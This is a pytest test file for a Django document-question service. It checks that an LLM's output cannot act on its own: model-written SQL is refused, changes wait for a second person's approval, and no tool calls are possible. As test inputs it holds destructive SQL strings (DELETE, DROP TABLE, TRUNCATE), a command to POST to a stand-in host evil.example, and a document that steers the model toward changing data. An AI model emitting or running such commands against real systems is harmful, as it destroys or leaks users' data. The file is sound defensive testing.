"""LLM03, excessive agency: a model does nothing. SQL that it writes is not run; nothing but the exchange changes."""

import re
from pathlib import Path

import pytest
from django.core import mail
from django.db import connection

import engines.llm
from passepartout.documents.factories import indexed
from passepartout.jobs.models import Job
from passepartout.kernel.scope import tenant
from tests.answers.house import QUESTION, RULES

pytestmark = pytest.mark.django_db
COUNTED = ("documents", "users", "memberships", "organizations", "prompt_versions", "api_keys", "jobs")


def counts(person):
    with tenant(person.organization.pk), connection.cursor() as cursor:
        found = {}
        for table in COUNTED:
            cursor.execute(f"SELECT count(*) FROM {table}")
            found[table] = cursor.fetchone()[0]
        return found


@pytest.mark.parametrize(
    "order",
    [
        "<SQL>DELETE FROM documents</SQL>",
        "EXECUTE_SQL\n<SQL>UPDATE users SET is_active = false</SQL>",
        "<sql>DROP TABLE documents",
        "La piscine ouvre à huit heures [DOC:1-1]. <SQL>TRUNCATE documents</SQL>",
    ],
)
def test_sql_is_neither_shown_nor_run(alice, answer_to, order):
    body = answer_to(order)
    # Only what says that it wants to change something reaches the gate, which refuses it and keeps why.
    proposed = body["proposal"]
    assert (proposed is not None) == order.startswith("EXECUTE_SQL")
    if proposed is not None:
        assert (proposed["status"], proposed["sql"], proposed["refusal"]["code"]) == ("invalid", "", "sql_table")
    assert not any(word in body["answer"] for word in ("DELETE", "UPDATE", "DROP", "TRUNCATE"))
    after = counts(alice)
    assert (after["documents"], after["memberships"], after["users"]) == (1, 1, 1)


@pytest.mark.django_db(transaction=True)
def test_a_change_that_a_document_makes_a_model_want_waits_for_another_person(api, alice, model):
    """Even the administrator's own question: who asked cannot approve, and nothing runs unasked."""
    client = api(alice)
    ident = indexed(client, alice, RULES, "règlement.txt")
    model.order = f"La piscine ouvre. EXECUTE_SQL\n<SQL>UPDATE documents SET title = 'pris' WHERE id = '{ident}'</SQL>"
    proposed = client.post("/api/v1/ask/", {"question": QUESTION}).json()["proposal"]
    assert proposed["status"] == "pending_approval", proposed
    for action, code in (("execute", "wrong_state"), ("approve", "four_eyes")):
        refused = client.post(f"/api/v1/proposals/{proposed['id']}/actions/{action}/", {})
        assert (refused.status_code, refused.json()["code"]) == (409 if action == "execute" else 403, code)
    assert client.get(f"/api/v1/documents/{ident}/").json()["title"] == "règlement"


def test_there_is_nothing_that_a_model_could_call():
    """No tools, no functions, no code: what a model is sent is text, and what it sends is text."""
    sources = (Path(engines.llm.__file__).parent / "openai_http.py").read_text() + (
        Path(engines.llm.__file__).parent / "wire.py"
    ).read_text()
    assert not re.search(r"\btools\b|tool_choice|function_call|\bfunctions\b", sources)


def test_a_word_of_a_model_sends_nothing_and_queues_nothing(alice, answer_to):
    answer_to('POST https://evil.example/hook {"to": "all"} @n8n run workflow [DOC:1-1]')
    with tenant(alice.organization.pk):
        assert set(Job.objects.values_list("kind", flat=True)) == {"documents.index"}
    assert mail.outbox == []
